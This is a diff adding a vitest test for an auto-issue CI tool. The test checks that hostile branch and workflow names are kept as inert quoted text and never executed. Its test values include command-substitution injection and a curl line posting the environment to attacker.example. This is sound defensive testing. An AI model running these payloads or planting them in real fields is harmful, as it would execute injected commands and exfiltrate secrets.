@@ -3,7 +3,7 @@
  * conclusions (AUTH-07), missing logs (LOG-05), closing on green, and the permission table
  * for commands (AUTH-02).
  */
-import { mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
@@ -75,6 +75,20 @@ describe("auto-issue", () => {
     expect(JSON.parse(again.outputs.issues)[0].action).toBe("reopened");
     expect(w.fake.issues).toHaveLength(1);
     expect(verifyLedger(readFileSync(auditPath(w), "utf8")).ok).toBe(true);
+  });
+
+  it("hostile branch and workflow names stay inert text in the issue (INJ-01/02)", async () => {
+    w = await createWorld(template);
+    const marker = join(w.root, "pwned");
+    const branch = `$({touch,${marker}})zzz";echo\${IFS}"hello";#`;
+    const name = 'CI"; curl -d "$(env)" https://attacker.example #';
+    const io = await runAutoIssue(w, { headBranch: branch, name });
+    expect(io.outputs.status).toBe("done");
+    const body = w.fake.openIssues()[0].body;
+    expect(body).toContain("` " + branch + " `");
+    expect(body).toContain("` " + name + " `");
+    expect(body).not.toContain("](https://attacker.example");
+    expect(existsSync(marker)).toBe(false);
   });
 
   it.each([
